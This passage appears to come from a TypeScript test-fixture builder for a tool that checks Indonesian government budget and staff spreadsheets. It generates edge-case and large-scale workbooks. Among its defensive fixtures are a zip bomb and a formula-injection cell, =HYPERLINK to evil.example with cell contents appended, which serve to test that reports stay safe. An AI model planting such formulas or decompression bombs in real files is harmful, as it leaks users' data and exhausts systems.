    out.push({ file: "zip-bomb.xlsx", expect: "unreadable", why: "160 MB of XML from a small file", says: tooBig });
  }

  // Odd values: no message may say NaN or Infinity, no false finding from them.
  {
    const p = await budgetBook("odd-numbers.xlsx");
    await patchXml(p, {
      sheet: (xml) =>
        xml
          .replace(/(<c r="C2"[^>]*>)<v>[^<]*<\/v>/, "$1<v>NaN</v>")
          .replace(/(<c r="C3"[^>]*>)<v>[^<]*<\/v>/, "$1<v>Infinity</v>")
          .replace(/(<c r="C4"[^>]*>)<v>[^<]*<\/v>/, "$1<v>1e999</v>")
          .replace("</sheetData>", '<row r="7"><c r="B7" t="inlineStr"><is><t>Tanggal</t></is></c><c r="C7" t="d"><v>bukan-tanggal</v></c></row></sheetData>'),
    });
    out.push({ file: "odd-numbers.xlsx", expect: "findings", why: "<v>NaN</v>, Infinity, 1e999 and an invalid t=\"d\" date in amounts", sheets: ["PK"] });
  }
  {
    const wb = newBook();
    paguTable(wb.addWorksheet("Realisasi"), [
      ["1.02.01.2.01.0001", "Kegiatan dengan angka terbesar Excel", 9.99e307, 9.99e307],
      ["1.02.01.2.01.0002", "Kegiatan bernilai sangat besar", 2e21, 3e21],
      ["1.02.01.2.01.0003", "Penyediaan Gaji", 500000, 400000],
    ]);
    await save(wb, dir, "huge-amounts.xlsx");
    out.push({ file: "huge-amounts.xlsx", expect: "findings", why: "9,99E+307 as pagu and realisasi; amounts of 1e21 and more", sheets: ["Realisasi"] });
  }
  {
    // An item whose formula has no cached result (a tool that does not calculate, a link to another workbook):
    // the JUMLAH below is right, and an unknown item must not read as zero.
    const wb = newBook();
    const ws = wb.addWorksheet("PK");
    budgetTable(ws, 1);
    ws.getCell("C5").value = 8111671250;
    ws.getCell("C4").value = { formula: "[1]Anggaran!C4" } as ExcelJS.CellFormulaValue;
    await save(wb, dir, "uncached-formula.xlsx");
    out.push({ file: "uncached-formula.xlsx", expect: "findings", why: "an item that is a formula without cached value, under a correct JUMLAH", sheets: ["PK"] });
  }

  // Formula injection, invisible characters, a 10 MB name.
  {
    const wb = newBook();
    const ws = wb.addWorksheet("PK");
    budgetTable(ws, 1);
    // Where an amount belongs: the finding quotes it as "tertulis" (found), the report must not make it live.
    ws.getCell("C5").value = '=HYPERLINK("http://evil.example/?leak="&A2,"8.111.671.250")';
    await save(wb, dir, "formula-injection.xlsx");
    out.push({ file: "formula-injection.xlsx", expect: "findings", why: "a JUMLAH cell whose text is =HYPERLINK(…&A2…)", sheets: ["PK"] });
  }
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Kendali");
    paguTable(ws, [
      ["1.02.01.2.01.0001", `Kegiatan ${INVISIBLE_SAMPLES.join("x")} Mutasi`, 1000000, 2000000],
      ["1.02.01.2.01.0002", "Penyediaan Gaji", 500000, 400000],
    ]);
    await save(wb, dir, "invisible-chars.xlsx");
    out.push({ file: "invisible-chars.xlsx", expect: "findings", why: "bidi overrides, isolates, separators, zero-width and C1 controls in a quoted label", sheets: ["Kendali"] });
  }
  {
    const wb = newBook();
    const ws = wb.addWorksheet("Kendali");
    paguTable(ws, [
      ["1.02.01.2.01.0001", "Kegiatan " + "sangat panjang ".repeat(700_000), 1000000, 2000000],
      ["1.02.01.2.01.0002", "Penyediaan Gaji", 500000, 400000],
    ]);
    await save(wb, dir, "long-name.xlsx");
    out.push({ file: "long-name.xlsx", expect: "findings", why: "a 10 MB label that a finding quotes", sheets: ["Kendali"] });
  }

  // Formats: .xls and .ods are read; .xlsb and password-protected files are named for what they are.
  {
    const XLSX = require("@e965/xlsx") as typeof import("@e965/xlsx");
    const book = () => {
      const wb = XLSX.utils.book_new();
      XLSX.utils.book_append_sheet(wb, XLSX.utils.aoa_to_sheet(BUDGET_AOA), "PK");
      return wb;
    };
    fs.writeFileSync(path.join(dir, "budget.xls"), XLSX.write(book(), { type: "buffer", bookType: "biff8" }));
    out.push({ file: "budget.xls", expect: "findings", why: "Excel 97-2003 workbook", sheets: ["PK"] });
    fs.writeFileSync(path.join(dir, "budget.ods"), XLSX.write(book(), { type: "buffer", bookType: "ods" }));
    out.push({ file: "budget.ods", expect: "findings", why: "OpenDocument spreadsheet", sheets: ["PK"] });
    fs.writeFileSync(path.join(dir, "budget-sheetjs.xlsx"), XLSX.write(book(), { type: "buffer", bookType: "xlsx" }));
    out.push({ file: "budget-sheetjs.xlsx", expect: "findings", why: "the same table as .xlsx (parity with .xls and .ods)", sheets: ["PK"] });
    fs.writeFileSync(path.join(dir, "budget.xlsb"), XLSX.write(book(), { type: "buffer", bookType: "xlsb" }));
    out.push({ file: "budget.xlsb", expect: "unreadable", why: "Excel binary workbook", says: /simpan sebagai \.xlsx/i });
    const cfb = XLSX.CFB.utils.cfb_new();
    XLSX.CFB.utils.cfb_add(cfb, "/EncryptionInfo", Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]));
    XLSX.CFB.utils.cfb_add(cfb, "/EncryptedPackage", Buffer.alloc(4096, 7));
    fs.writeFileSync(path.join(dir, "encrypted.xlsx"), XLSX.CFB.write(cfb, { type: "buffer" }) as Buffer);
    out.push({ file: "encrypted.xlsx", expect: "unreadable", why: "a workbook with a password to open (OLE file holding the encrypted package)", says: /dilindungi kata sandi/ });
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// The scale corpus: Excel-legal content far below the cell limit that made rules quadratic (every invalid NIP
// against every valid one, a duplicate NIP copying its related list, "Nama :" lines against PIHAK headings, items
// sharing one code, names of 32.000 characters, 5 MB amounts quoted in messages). Written as raw SpreadsheetML
// (exceljs would take minutes for 100.000 rows); test/reliability/engine-scale.test.ts runs each through the CLI.

type RawValue = string | number | null | { s: number };

const xmlEscape = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");

function colLetters(c: number): string {
  let s = "";
  for (let n = c + 1; n > 0; n = Math.floor((n - 1) / 26)) s = String.fromCharCode(65 + ((n - 1) % 26)) + s;
  return s;
}

/** Sheet XML from rows of values (strings inline, numbers as numbers, { s: i } a shared string index). */
export function sheetXml(rows: RawValue[][]): string {
  const out: string[] = [];
  rows.forEach((row, r) => {
    const cells: string[] = [];
    row.forEach((v, c) => {
      if (v === null || v === undefined) return;
      const ref = `${colLetters(c)}${r + 1}`;
      if (typeof v === "number") cells.push(`<c r="${ref}"><v>${v}</v></c>`);
      else if (typeof v === "object") cells.push(`<c r="${ref}" t="s"><v>${v.s}</v></c>`);
      else cells.push(`<c r="${ref}" t="inlineStr"><is><t xml:space="preserve">${xmlEscape(v)}</t></is></c>`);
    });
    if (cells.length) out.push(`<row r="${r + 1}">${cells.join("")}</row>`);
  });
  return `${XML_HEAD}<worksheet ${NS_MAIN}><sheetData>${out.join("")}</sheetData></worksheet>`;
}

/** A workbook of several sheets (and optionally a shared string table) as a zip written by rawZip. */
export function rawWorkbook(sheets: Array<{ name: string; rows: RawValue[][] }>, sharedStrings?: string[]): Buffer {
  const b = (s: string) => Buffer.from(s, "utf8");
  const entries: RawZipEntry[] = [
    { name: "[Content_Types].xml", data: b(`${XML_HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>`) },
    minimalWorkbookParts("")[1],
    {
      name: "xl/workbook.xml",
      data: b(`${XML_HEAD}<workbook ${NS_MAIN} ${NS_REL}><sheets>${sheets.map((s, i) => `<sheet name="${xmlEscape(s.name)}" sheetId="${i + 1}" r:id="rId${i + 1}"/>`).join("")}</sheets></workbook>`),
    },
    {
      name: "xl/_rels/workbook.xml.rels",
      data: b(
        `${XML_HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
          sheets.map((_, i) => `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`).join("") +
          (sharedStrings ? `<Relationship Id="rId${sheets.length + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>` : "") +
          `</Relationships>`,
      ),
    },
    ...sheets.map((s, i) => ({ name: `xl/worksheets/sheet${i + 1}.xml`, data: b(sheetXml(s.rows)) })),
  ];
  if (sharedStrings) {
    entries.push({
      name: "xl/sharedStrings.xml",
      data: b(`${XML_HEAD}<sst ${NS_MAIN} count="${sharedStrings.length}" uniqueCount="${sharedStrings.length}">${sharedStrings.map((t) => `<si><t xml:space="preserve">${xmlEscape(t)}</t></si>`).join("")}</sst>`),
    });
  }
  return rawZip(entries);
}

/** A valid 18-digit NIP, different for each i (birth 1970-1989, TMT at 25, sequence from i). */
export function validNip(i: number): string {
  const year = 1970 + (i % 20);
  const month = 1 + (Math.floor(i / 20) % 12);
  const day = 1 + (Math.floor(i / 240) % 28);
  const seq = 1 + (Math.floor(i / 6720) % 999);
  const p2 = (n: number) => String(n).padStart(2, "0");
  return `${year}${p2(month)}${p2(day)}${year + 25}${p2(month)}${1 + (i % 2)}${String(seq).padStart(3, "0")}`;
}

export async function buildScaleCorpus(dir: string): Promise<CorpusEntry[]> {
  fs.mkdirSync(dir, { recursive: true });
  const out: CorpusEntry[] = [];
  const put = (file: string, data: Buffer, why: string, sheets: string[]) => {
    fs.writeFileSync(path.join(dir, file), data);
    out.push({ file, expect: "findings", why, sheets });
  };
  const staffHead: RawValue[] = ["NO", "NAMA", "NIP", "JABATAN"];

  // 30 names of 32.000 characters under one NIP (edit distance on every pair of words).
  {
    const rows: RawValue[][] = [staffHead];
    for (let i = 0; i < 30; i++) rows.push([i + 1, String.fromCharCode(65 + (i % 26)).repeat(31_999) + String(i), validNip(7), "Analis"]);
    put("scale-long-names.xlsx", rawWorkbook([{ name: "Pegawai", rows }]), "30 names of 32.000 characters sharing one NIP", ["Pegawai"]);
  }
  // 6.000 valid and 6.000 invalid NIPs (each invalid one was compared with every valid one).
  {
    const rows: RawValue[][] = [staffHead];
    for (let i = 0; i < 6000; i++) rows.push([i + 1, `Pegawai Sah ${i}`, validNip(i), "Analis"]);
    for (let i = 0; i < 6000; i++) {
      const v = validNip(i + 7000);
      rows.push([6001 + i, `Pegawai Salah ${i}`, v.slice(0, 4) + "13" + v.slice(6), "Analis"]); // month 13: impossible birth date
    }
    put("scale-many-nips.xlsx", rawWorkbook([{ name: "Pegawai", rows }]), "6.000 valid and 6.000 invalid NIPs", ["Pegawai"]);
  }
  // One invalid NIP repeated 100.000 times on a sheet (each repeat copied the related list).
  {
    const rows: RawValue[][] = [["NO", "NAMA", "NIP"]];
    for (let i = 0; i < 100_000; i++) rows.push([i + 1, "Pegawai", "19701301 199501 1 001"]);
    put("scale-duplicate-nip.xlsx", rawWorkbook([{ name: "Pegawai", rows }]), "one invalid NIP 100.000 times", ["Pegawai"]);
  }
  // 120.000 "Nama :" lines and 60.000 PIHAK headings on a PK sheet (each line was checked against every heading).
  {
    const rows: RawValue[][] = [["PERJANJIAN KINERJA TAHUN 2024"], [null, "yang selanjutnya disebut PIHAK PERTAMA"]];
    for (let i = 0; i < 60_000; i++) rows.push([null, "PIHAK PERTAMA"], [null, `Nama : Pejabat ${i}`], [null, `Nama : Pejabat Lain ${i}`]);
    put("scale-nama-lines.xlsx", rawWorkbook([{ name: "PK", rows }]), "120.000 Nama lines under 60.000 PIHAK headings", ["PK"]);
  }
  // A superior's 4.000 items sharing one code and a subordinate's 4.000 items under it (linked N x M).
  {
    const pk = (self: string, superior: string): RawValue[][] => [
      ["PERJANJIAN KINERJA TAHUN 2024"], [],
      [null, "PIHAK PERTAMA"], [null, "Nama", `${self}`], [null, "Jabatan", `Jabatan ${self}`], [],
      [null, "PIHAK KEDUA"], [null, "Nama", `${superior}`], [null, "Jabatan", `Jabatan ${superior}`], [],
      ["KODE", "PROGRAM / KEGIATAN / SUB KEGIATAN", "ANGGARAN (Rp.)", "KET."],
    ];
    const sup = pk("KEPALA DINAS", "BUPATI");
    for (let i = 0; i < 4000; i++) sup.push(["1.02.01.2.01", `Kegiatan Administrasi ${i}`, 1000000, "APBD"]);
    const sub = pk("SEKRETARIS", "KEPALA DINAS");
    for (let i = 0; i < 4000; i++) sub.push([`1.02.01.2.01.${String(i + 1).padStart(4, "0")}`, `Sub Kegiatan ${i}`, 250, "APBD"]);
    put("scale-shared-code.xlsx", rawWorkbook([{ name: "PK Kepala", rows: sup }, { name: "PK Sekretaris", rows: sub }]), "4.000 items sharing one code over 4.000 items", ["PK Kepala", "PK Sekretaris"]);
  }
  // 200 amounts of 5 MB each (one shared string): messages quoted them whole.
  {
    const rows: RawValue[][] = [["NO", "PROGRAM / KEGIATAN / SUB KEGIATAN", "ANGGARAN", "NIP"]];
    for (let i = 0; i < 200; i++) rows.push([i + 1, `Kegiatan ${i}`, { s: 0 }, { s: 1 }]);
    rows.push([null, "JUMLAH", 1000]);
    put("scale-huge-text.xlsx", rawWorkbook([{ name: "Anggaran", rows }], ["1.000.".repeat(870_000), "1970".repeat(1_300_000)]), "200 amounts and NIPs of 5 MB text each", ["Anggaran"]);
  }
  return out;
}
